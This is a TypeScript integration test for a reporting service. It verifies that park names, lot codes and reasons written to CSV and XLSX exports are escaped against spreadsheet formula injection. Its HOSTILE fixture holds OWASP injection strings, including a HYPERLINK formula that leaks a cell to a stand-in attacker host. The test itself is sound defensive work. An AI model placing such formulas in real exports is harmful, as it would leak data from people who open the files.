// Finding 9 of issue 15 (CSV/XLSX formula injection): names, codes and reasons that operators, officers
// and devices supply are written so that no spreadsheet runs them as formulas; numbers stay numbers.
import { randomUUID } from 'node:crypto';
import { INestApplication } from '@nestjs/common';
import { Test } from '@nestjs/testing';
import { CellValue, ValueType, Workbook } from 'exceljs';
import { QueueModule, redisUrl } from '@hp/queue';
import { StorageModule } from '@hp/storage';
import { WasteLotRecord, WasteWriter } from '@hp/waste';
import { RegistryAdmin, RegistryDataModule } from '@hp/registry';
import { ComplianceDataModule, ComplianceWriter } from '@hp/compliance';
import { createTestDatabase, TestDatabase } from '@hp/testing';
import { reason } from '@hp/contracts';
import { parseReportPeriod } from './model/report-period';
import { ReportDocument } from './model/report-tables';
import { translator } from './model/messages';
import { renderXlsx } from './render/xlsx';
import { ReportsApiModule } from './reports.module';
import { ReportsService } from './reports.service';
import { ReadingsDataModule } from '@hp/readings';

const REDIS_URL = process.env['TEST_REDIS_URL'] ?? 'redis://127.0.0.1:6379';
const NOW = new Date('2026-11-01T06:00:00+07:00');
const at = (iso: string) => new Date(iso);

/** The OWASP shapes: each must come out as text starting with a single quote. */
const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(A1)',
  tab: '\t=1',
  cr: '\r=1',
};
const FORMULA_START = /^[=+\-@\t\r]/;

function lot(code: string, parkId: number, fields: Partial<WasteLotRecord>): WasteLotRecord {
  return {
    lotCode: code,
    state: 'stored',
    generatorCode: null,
    parkId,
    wasteCode: '16 01 12',
    anchorAt: at('2026-10-05T08:00:00+07:00'),
    generatedAt: at('2026-10-05T08:00:00+07:00'),
    generatedKg: null,
    manifestNumber: null,
    transporterCode: null,
    facilityCode: null,
    handedOverAt: null,
    handedOverKg: null,
    receivedAt: null,
    receivedKg: null,
    treatedAt: null,
    treatmentMethod: null,
    certificate: null,
    findings: [],
    eventCount: 1,
    ...fields,
  };
}

/** Every cell of every sheet: its text (strings and rich text) or number, and exceljs' type. */
async function cellsOf(xlsx: Buffer): Promise<{ where: string; type: ValueType; value: CellValue }[]> {
  const workbook = new Workbook();
  await workbook.xlsx.load(xlsx as unknown as ArrayBuffer);
  const cells: { where: string; type: ValueType; value: CellValue }[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) =>
        cells.push({ where: `${sheet.name}!${cell.address}`, type: cell.type, value: cell.value }),
      ),
    ),
  );
  return cells;
}

function csvFieldsOf(csv: Buffer): string[] {
  // RFC 4180 fields (quoted ones may hold commas, CR and LF).
  const text = csv.toString('utf8').replace(/^\uFEFF/, '');
  const fields: string[] = [];
  const pattern = /(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g;
  for (const m of text.matchAll(pattern)) fields.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]);
  return fields;
}

describe('reports: formula-leading text is neutralised in CSV and XLSX (PostgreSQL)', () => {
  let database: TestDatabase;
  let app: INestApplication;

  beforeAll(async () => {
    database = await createTestDatabase();
    const moduleRef = await Test.createTestingModule({
      imports: [
        StorageModule.forRoot({
          databaseUrl: database.url,
          dataDir: 'unused',
          poolSize: 4,
          migrateOnBoot: true,
        }),
        RegistryDataModule,
        ReadingsDataModule,
        ComplianceDataModule,
        QueueModule.forRoot({
          driver: 'bullmq',
          redis: redisUrl(REDIS_URL),
          prefix: `reports-formula-${randomUUID()}`,
        }),
        ReportsApiModule.forRoot(),
      ],
    }).compile();
    app = moduleRef.createNestApplication({ logger: ['error'] });
    await app.init();

    // Park names as operators typed them; one outlet each, judged for October.
    const october = Array.from({ length: 31 }, (_, i) => `2026-10-${String(i + 1).padStart(2, '0')}`);
    const names: [string, string][] = [
      ['HA', HOSTILE.hyperlink],
      ['HB', HOSTILE.plus],
      ['HC', HOSTILE.minus],
      ['HD', HOSTILE.at],
      ['HE', HOSTILE.tab],
      ['HF', HOSTILE.cr],
    ];
    const parkIds: number[] = [];
    for (const [code, name] of names) {
      const park = await app.get(RegistryAdmin).registerPark({ code, name, operatingStatus: 'operating' });
      parkIds.push(park.id);
      const plant = await app.get(RegistryAdmin).registerTreatmentPlant({
        code: `${code}-CETP`,
        parkId: park.id,
        name: HOSTILE.at,
        operatingStatus: 'operating',
      });
      const station = await app
        .get(RegistryAdmin)
        .registerStation({ code: `${code}-OUT`, plantId: plant.id, name: HOSTILE.plus, kind: 'outlet' });
      await app.get(ComplianceWriter).storeStationDays(
        october.map((day) => ({
          stationId: station.id,
          day,
          permitId: null,
          verdict: day === '2026-10-14' ? 'exceedance' : 'compliant',
          reasons: day === '2026-10-14' ? [reason('TEXT', { text: HOSTILE.hyperlink })] : [],
        })),
      );
    }
    // Lots from a device: hostile lot code, generator and waste code, and a finding's reason.
    await app.get(WasteWriter).saveFoldedLot(
      lot(HOSTILE.hyperlink, parkIds[0], {
        generatorCode: HOSTILE.minus,
        wasteCode: HOSTILE.at,
        generatedKg: 300,
        findings: [
          {
            code: 'facility_mismatch',
            params: { stage: 'receipt', facility: HOSTILE.plus, expectedFacility: 'TF', manifest: 'M-1' },
          },
        ],
      }),
    );
    await app.get(WasteWriter).saveFoldedLot(
      lot(HOSTILE.cr, parkIds[1], {
        generatorCode: HOSTILE.tab,
        generatedKg: 120.5,
        findings: [
          {
            code: 'facility_mismatch',
            params: { stage: 'receipt', facility: HOSTILE.cr, expectedFacility: 'TF', manifest: 'M-1' },
          },
        ],
      }),
    );
  }, 60_000);

  afterAll(async () => {
    await app?.close();
    await database?.drop();
  });

  async function generate() {
    const { files } = await app
      .get(ReportsService)
      .generate(
        { period: parseReportPeriod('2026-10'), language: 'en', parkCode: null, trigger: 'request' },
        NOW,
      );
    return {
      xlsx: files.find((f) => f.format === 'xlsx')!.content,
      csv: files.find((f) => f.format === 'csv')!.content,
    };
  }

  it('the XLSX holds each hostile name, code and reason as a quoted string cell, and numbers as numbers', async () => {
    const cells = await cellsOf((await generate()).xlsx);
    const texts = cells.filter((c) => typeof c.value === 'string') as {
      where: string;
      type: ValueType;
      value: string;
    }[];
    // No string cell of the workbook starts a formula, and there are no formula cells at all.
    expect(texts.filter((c) => FORMULA_START.test(c.value))).toEqual([]);
    expect(cells.filter((c) => c.type === ValueType.Formula || c.type === ValueType.SharedString)).toEqual(
      [],
    );
    for (const hostile of Object.values(HOSTILE)) {
      // XML reads a raw CR back as LF (as Excel does): compare line breaks alike.
      const found = texts.filter((c) => c.value === `'${hostile}`.replace(/\r/g, '\n'));
      expect({ hostile, found: found.length > 0 }).toEqual({ hostile, found: true });
      for (const c of found) expect(c.type).toBe(ValueType.String);
    }
    // The lot's mass stays a number cell.
    expect(cells.some((c) => c.type === ValueType.Number && c.value === 300)).toBe(true);
    expect(cells.some((c) => c.type === ValueType.Number && c.value === 120.5)).toBe(true);
  });

  it('the CSV holds each hostile name, code and reason with a leading quote, and numbers plain', async () => {
    const fields = csvFieldsOf((await generate()).csv);
    expect(fields.filter((f) => FORMULA_START.test(f))).toEqual([]);
    for (const hostile of Object.values(HOSTILE)) expect(fields).toContain(`'${hostile}`);
    expect(fields).toContain('300');
    expect(fields).toContain('120.5');
  });

  it('writes negative numbers as number cells, never as quoted text', async () => {
    const t = translator('en');
    const doc: ReportDocument = {
      title: HOSTILE.minus,
      subtitle: 'subtitle',
      facts: [[t('scope'), HOSTILE.at]],
      tables: [
        {
          id: 'parks',
          title: t('section_parks'),
          columns: [
            { id: 'park', header: t('park'), type: 'text', width: 1 },
            { id: 'delta', header: 'delta', type: 'kg', width: 1 },
          ],
          rows: [{ key: 'X', cells: [HOSTILE.tab, -2.5] }],
        },
      ],
      t,
    };
    const cells = await cellsOf(await renderXlsx(doc));
    expect(cells.find((c) => c.value === -2.5)?.type).toBe(ValueType.Number);
    expect(cells.filter((c) => typeof c.value === 'string' && FORMULA_START.test(c.value))).toEqual([]);
    expect(cells.map((c) => c.value)).toEqual(
      expect.arrayContaining([`'${HOSTILE.minus}`, `'${HOSTILE.at}`, `'${HOSTILE.tab}`]),
    );
  });
});
